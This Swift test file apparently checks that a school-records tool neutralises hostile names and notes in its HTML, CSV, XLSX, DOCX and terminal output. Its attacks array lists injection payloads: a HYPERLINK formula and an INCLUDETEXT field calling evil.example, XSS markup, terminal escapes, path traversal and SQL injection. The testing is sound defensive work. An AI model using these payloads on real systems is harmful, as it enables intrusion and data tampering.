import Foundation
import FoundationXML
import Testing

/// Ten hostile names and notes through every output: nothing of them may act.
@Suite struct HostileTests {
  private struct Attack {
    var name: String
    var text: String
  }

  private static let attacks = [
    Attack(name: "formula", text: "=HYPERLINK(\"http://evil.example/x\",\"x\")"),
    Attack(name: "markup", text: "<script>alert(1)</script><img src=x onerror=alert(1)>\" onclick=\"alert(1)"),
    Attack(name: "template", text: "{{7*7}} ${7*7} {recipient} {student} <%= 7*7 %>"),
    Attack(name: "terminal", text: "Esc\u{1B}[2J\u{1B}]0;pwned\u{7}\u{9B}31m\u{8}"),
    Attack(name: "bidi", text: "Bi\u{202E}gpj.exe\u{202C}\u{2066}x\u{061C}"),
    Attack(name: "path", text: "../../../../tmp/ebb-pwned"),
    Attack(
      name: "document",
      text: "</w:t></w:r><w:instrText>INCLUDETEXT \"http://evil.example\"</w:instrText>]]>{\\rtf1\\object}"),
    Attack(name: "sql", text: "Robert'); DROP TABLE student;-- \" OR 1=1"),
    Attack(name: "long", text: "Lang" + String(repeating: "A", count: 10_000)),
    // An import refuses a NUL; the star becomes one in the database itself.
    Attack(name: "nul", text: "Nu★ll"),
  ]

  private static let outputs = Result {
    try EveryOutput(
      attacks.enumerated().map { place, attack in
        let id = place == 5 ? "../../ebb-pwned" : place == 0 ? "=1+1" : "H\(place)"
        return EveryOutput.Pupil(
          id: id, name: attack.text, counselor: place % 2 == 0 ? attack.text : "Rivera",
          note: "\(attack.text) hides in his room. \(attack.text)", text: attack.text)
      }
    ) { ebb in
      let columns = [
        "student_detail": ["name", "class_name", "household"], "guardian": ["name", "relation", "address", "reason"],
        "note": ["text"], "sign": ["quote"], "contact": ["who", "outcome"], "consent": ["by"],
      ]
      for (table, names) in columns {
        let changes = names.map { "\($0) = replace(\($0), '★', char(0))" }.joined(separator: ", ")
        _ = try ebb.shell("sqlite3 ebb.sqlite \"UPDATE \(table) SET \(changes)\"")
      }
      #expect(try ebb.rows("SELECT count(*) FROM student_detail WHERE instr(name, char(0)) > 0") == ["1"])
    }
  }

  /// What acts on a screen or on the writing around it; line ends and tabs do not.
  private static func acts(_ scalar: Unicode.Scalar) -> Bool {
    switch scalar.value {
    case 0x09, 0x0A, 0x0D: false
    case 0x00...0x1F, 0x7F...0x9F, 0x061C, 0x200E, 0x200F, 0x202A...0x202E, 0x2066...0x2069: true
    default: false
    }
  }

  private static func acting(_ text: String) -> [String] {
    text.unicodeScalars.filter(acts).map { String($0.value, radix: 16) }
  }

  @Test func `the school was taken in, and the outputs show the hostile names`() throws {
    let outputs = try HostileTests.outputs.get()
    #expect(
      try outputs.ebb.rows("SELECT count(*) FROM student WHERE id LIKE 'H%' OR id LIKE '%pwned' OR id = '=1+1'").first
        .flatMap { Int($0) } ?? 0 >= 9)
    #expect(try outputs.ebb.run("check").status == 0)
    for printed in outputs.printed {
      #expect(
        ![1, 74].contains(printed.status) && printed.status < 128,
        "\(printed.command.map { $0.prefix(40) }): \(printed.status) \(printed.err.prefix(300))")
    }
    let files = try outputs.files()
    for ending in [".html", ".csv", ".xlsx", ".docx", ".txt"] {
      #expect(files.contains { $0.hasSuffix(ending) }, "\(ending)")
    }
    #expect(try files.contains { try $0.hasPrefix("reports/") && outputs.text($0).contains("DROP TABLE student") })
    #expect(
      try files.contains {
        try $0.hasPrefix("letters/") && outputs.text($0).contains("{{7*7}} ${7*7} {recipient} {student}")
      })
  }

  @Test func `a file with a NUL is refused whole`() throws {
    let ebb = try Ebb.workspace()
    try ebb.write("roster.csv", "student_id,name\n1,Nu\u{0}ll\n")
    let result = try ebb.run("import", "roster.csv")
    #expect(result.status == 65 && result.err.contains("roster.csv:2:5: error E110: a NUL byte"))
  }

  @Test func `nothing printed acts on a screen, and JSON is JSON`() throws {
    for printed in try HostileTests.outputs.get().printed {
      let what = "\(printed.command.map { $0.prefix(30) })"
      #expect(HostileTests.acting(printed.out) == [] && HostileTests.acting(printed.err) == [], "\(what)")
      // A carriage return stands only at the end of a line of CSV.
      #expect(!printed.out.replacing("\r\n", with: "\n").unicodeScalars.contains("\r"), "\(what)")
      guard printed.command.contains("--json") || printed.command.contains("--lines"), printed.status == 0 else {
        continue
      }
      for line in printed.out.split(separator: "\n") {
        #expect((try? JSONSerialization.jsonObject(with: Data(line.utf8))) != nil, "\(what)")
      }
    }
  }

  @Test(.enabled(if: FileManager.default.isExecutableFile(atPath: "/usr/bin/script")))
  func `on a terminal nothing but our own colours acts`() throws {
    let ebb = try HostileTests.outputs.get().ebb
    for command in [
      "list", "show H3", "explain H4", "log", "urgent", "imports --diff 1 --names --all",
    ] {
      let shown = try ebb.shell("TERM=xterm script -qec 'ebb \(command)' /dev/null").out
      #expect(shown.count > 40, "\(command)")
      var rest = shown.replacing("\r\n", with: "\n")
      for code in ["0", "1", "2", "31", "32", "33"] { rest = rest.replacing("\u{1B}[\(code)m", with: "") }
      #expect(HostileTests.acting(rest) == [] && !rest.unicodeScalars.contains("\r"), "\(command)")
    }
  }

  @Test func `files are named by plain letters, inside the workspace`() throws {
    let outputs = try HostileTests.outputs.get()
    for file in try outputs.files() {
      #expect(
        file.utf8.allSatisfy { $0 > 0x20 && $0 < 0x7F } && !file.split(separator: "/").contains { $0.hasPrefix(".") },
        "\(file)")
      #expect(!file.contains { "\\:*?\"<>|'= ".contains($0) }, "\(file)")
      for part in file.split(separator: "/") { #expect(part.utf8.count <= 255 && !part.hasPrefix("-")) }
    }
    let parent = URL(filePath: outputs.ebb.folder).deletingLastPathComponent().path
    for folder in [parent, "/tmp", "\(parent)/.."] {
      let names = try FileManager.default.contentsOfDirectory(atPath: folder)
      #expect(!names.contains { $0.contains("pwned") }, "\(folder)")
    }
  }

  @Test func `pages run nothing of theirs and load nothing`() throws {
    let outputs = try HostileTests.outputs.get()
    var pages = 0
    for file in try outputs.files() where file.hasSuffix(".html") {
      pages += 1
      let text = try outputs.text(file)
      #expect(HostileTests.acting(text) == [], "\(file)")
      #expect(!text.contains("<img") && !text.contains("<script>alert") && !text.contains("<w:"), "\(file)")
      #expect(text.components(separatedBy: "<script").count <= 2, "\(file)")
      #expect(text.replacing("&#39;", with: "'").contains("default-src 'none'"), "\(file)")
      // Tags, as a browser cuts them: no handler, no address but a page beside it, a place on the page or data.
      let start = text.range(of: "<body")?.lowerBound ?? text.startIndex
      for tag in HostileTests.tags(String(text[start...])) {
        #expect(!tag.contains(" on"), "\(file): \(tag)")
        for name in ["href=\"", "src=\"", "action=\""] {
          guard let value = tag.range(of: name).map({ tag[$0.upperBound...].prefix { $0 != "\"" } }) else { continue }
          #expect(
            value.hasPrefix("#") || value.hasPrefix("data:") || !value.contains(":") && !value.contains("/"),
            "\(file): \(tag)")
        }
      }
    }
    #expect(pages > 20)
  }

  @Test func `no cell of a table is a formula`() throws {
    let outputs = try HostileTests.outputs.get()
    var cells = 0
    var tables = try outputs.files().filter { $0.hasSuffix(".csv") }.map { ($0, try outputs.text($0)) }
    tables += outputs.printed.filter { $0.command.contains("--csv") }.map { ("printed", $0.out) }
    for (file, text) in tables {
      // The rows of a file that are to be mended must come back as they were.
      #expect(file == "kept.csv" || HostileTests.acting(text) == [], "\(file)")
      for cell in HostileTests.cells(text) {
        cells += 1
        guard let first = cell.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) else { continue }
        // A number below zero, and a dash that stands for nothing, are no formulas.
        #expect(Double(cell) != nil || cell == "-", "\(file): \(cell.prefix(60))")
      }
    }
    #expect(cells > 500)
  }

  @Test func `workbooks and documents hold text alone and are well formed`() throws {
    let outputs = try HostileTests.outputs.get()
    var parts = 0
    for file in try outputs.files() where file.hasSuffix(".xlsx") || file.hasSuffix(".docx") {
      for (name, bytes) in try HostileTests.parts("\(outputs.ebb.folder)/\(file)") {
        parts += 1
        let elements = HostileTests.Elements()
        let parser = XMLParser(data: Data(bytes))
        parser.delegate = elements
        #expect(parser.parse(), "\(file) \(name): \(parser.parserError.map { "\($0)" } ?? "")")
        for element in [
          "f", "w:instrText", "w:fldSimple", "w:object", "hyperlink", "w:hyperlink", "oleObject", "w:altChunk",
        ] {
          #expect(
            !elements.names.contains(element) || element == "w:fldSimple" && name.contains("foot"),
            "\(file) \(name): \(element)")
        }
        let text = String(decoding: bytes, as: UTF8.self)
        #expect(!text.contains("TargetMode=\"External\""), "\(file) \(name)")
        #expect(HostileTests.acting(text) == [], "\(file) \(name)")
      }
    }
    #expect(parts > 100)
  }

  @Test func `plain letters hold nothing that acts`() throws {
    let outputs = try HostileTests.outputs.get()
    for file in try outputs.files() where file.hasSuffix(".txt") {
      #expect(HostileTests.acting(try outputs.text(file)) == [], "\(file)")
    }
  }

  // MARK: reading by other means than the ones that wrote

  private final class Elements: NSObject, XMLParserDelegate {
    var names: Set<String> = []
    func parser(
      _ parser: XMLParser, didStartElement name: String, namespaceURI: String?, qualifiedName: String?,
      attributes: [String: String]
    ) { names.insert(name) }
  }

  /// Everything between `<` and `>` outside quotes.
  private static func tags(_ html: String) -> [String] {
    var tags: [String] = []
    var tag: String?
    var quote = false
    for character in html {
      if let open = tag {
        if character == "\"" { quote.toggle() }
        if character == ">", !quote {
          tags.append(open)
          tag = nil
        } else {
          tag = open + String(character)
        }
      } else if character == "<" {
        (tag, quote) = ("", false)
      }
    }
    // The page's own script is no markup.
    return tags.filter { !$0.contains("function") }
  }

  private static func cells(_ csv: String) -> [String] {
    var cells: [String] = []
    var cell = ""
    var inQuotes = false
    var last: Unicode.Scalar?
    for scalar in csv.unicodeScalars {
      defer { last = scalar }
      switch scalar {
      case "\"":
        // A quote right behind the closing one is a quote of the cell.
        if !inQuotes, last == "\"" { cell.unicodeScalars.append(scalar) }
        inQuotes.toggle()
      case ",", "\n":
        if inQuotes { fallthrough }
        cells.append(cell.hasSuffix("\r") ? String(cell.dropLast()) : cell)
        cell = ""
      default: cell.unicodeScalars.append(scalar)
      }
    }
    return cells
  }

  private static func parts(_ path: String) throws -> [(name: String, bytes: [UInt8])] {
    let bytes = [UInt8](try Data(contentsOf: URL(filePath: path)))
    func number(_ place: Int, _ count: Int) -> Int {
      bytes[place..<place + count].reversed().reduce(0) { $0 << 8 | Int($1) }
    }
    var parts: [(name: String, bytes: [UInt8])] = []
    var place = 0
    while number(place, 4) == 0x0403_4B50 {
      let name = place + 30..<place + 30 + number(place + 26, 2)
      let data = name.upperBound..<name.upperBound + number(place + 22, 4)
      parts.append((String(decoding: bytes[name], as: UTF8.self), Array(bytes[data])))
      place = data.upperBound
    }
    return parts
  }
}
